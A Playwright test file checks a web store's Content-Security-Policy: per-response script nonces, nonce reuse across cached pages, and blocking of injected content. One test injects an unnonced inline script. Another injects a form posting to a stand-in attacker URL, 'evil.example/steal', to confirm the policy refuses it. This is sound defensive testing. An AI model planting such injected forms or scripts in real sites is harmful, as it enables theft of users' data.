import { test as plain } from '@playwright/test'
import { expect, test } from './fixtures'

const nonceOf = (policy: string) => /'nonce-([^']+)'/.exec(policy)?.[1]

test('pages carry a script policy with a fresh nonce per response, and still hydrate', async ({ page, request }) => {
  for (const path of ['/', '/catalogue', '/login']) {
    const response = (await page.goto(path))!
    const policy = response.headers()['content-security-policy'] ?? ''
    expect(policy).toContain("script-src 'self'")
    expect(policy).toContain("object-src 'none'")
    // Everything unnamed is this origin's alone; forms post here or to WayForPay's payment page only.
    expect(policy).toContain("default-src 'self'")
    expect(policy).toContain("form-action 'self' https://secure.wayforpay.com")
    const nonce = nonceOf(policy)
    expect(nonce, path).toBeTruthy()
    // The router's inline scripts (they remove themselves once run) carry it in the HTML.
    const inline = [...(await response.text()).matchAll(/<script(?![^>]*\bsrc=)([^>]*)>/g)].map((m) => m[1]!)
    expect(inline.length).toBeGreaterThan(0)
    expect(inline.filter((attributes) => !attributes.includes(`nonce="${nonce}"`))).toEqual([])
    await expect(page.locator('html[data-hydrated]')).toHaveCount(1)
  }
  // The same cached page answered twice: two nonces.
  const first = nonceOf((await request.get('/catalogue')).headers()['content-security-policy'] ?? '')
  const second = nonceOf((await request.get('/catalogue')).headers()['content-security-policy'] ?? '')
  expect(first && second && first !== second).toBe(true)
})

// The plain test: the refused script is reported on the console, which the store's fixture counts as a failure.
plain('an inline script without the nonce does not run', async ({ page }) => {
  await page.goto('/')
  const blocked = await page.evaluate(
    () =>
      new Promise<boolean>((resolve) => {
        document.addEventListener('securitypolicyviolation', () => resolve(true), { once: true })
        const script = document.createElement('script')
        script.textContent = 'window.__injected = true'
        document.body.appendChild(script)
        setTimeout(() => resolve(!(window as unknown as { __injected?: boolean }).__injected), 500)
      }),
  )
  expect(blocked).toBe(true)
})

test('two answers of one cached page: each its own nonce on every inline script, the same gzip-kept page otherwise', async ({
  request,
}) => {
  // Two answers of the same kept copy: another worker's order may purge the page between them, so
  // the pair is read again until both come from the cache.
  await expect(async () => {
    const answers: Array<{ nonce: string; html: string }> = []
    for (const _ of [1, 2]) {
      const response = await request.get('/catalogue', { headers: { 'accept-encoding': 'gzip, deflate, br' } })
      expect(response.headers()['x-page-cache']).toBe('hit')
      // Sent as kept, compressed; the client decodes it (its CRC checked) to the page.
      expect(response.headers()['content-encoding']).toBe('gzip')
      const nonce = nonceOf(response.headers()['content-security-policy'] ?? '')!
      const html = await response.text()
      const inline = [...html.matchAll(/<script(?![^>]*\bsrc=)([^>]*)>/g)].map((m) => m[1]!)
      expect(inline.length).toBeGreaterThan(0)
      expect(inline.filter((attributes) => !attributes.includes(`nonce="${nonce}"`))).toEqual([])
      answers.push({ nonce, html })
    }
    const [first, second] = answers as [{ nonce: string; html: string }, { nonce: string; html: string }]
    expect(first.nonce).not.toBe(second.nonce)
    expect(second.html).not.toContain(first.nonce)
    expect(first.html.replaceAll(first.nonce, 'NONCE')).toBe(second.html.replaceAll(second.nonce, 'NONCE'))
  }).toPass({ timeout: 30_000 })
})

plain('a form injected into a page cannot post to another site', async ({ page }) => {
  await page.goto('/')
  const violated = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true })
        const form = document.createElement('form')
        form.method = 'post'
        form.action = 'https://evil.example/steal'
        document.body.appendChild(form)
        form.submit()
        setTimeout(() => resolve('none'), 2000)
      }),
  )
  expect(violated).toBe('form-action')
  expect(page.url()).not.toContain('evil.example')
})
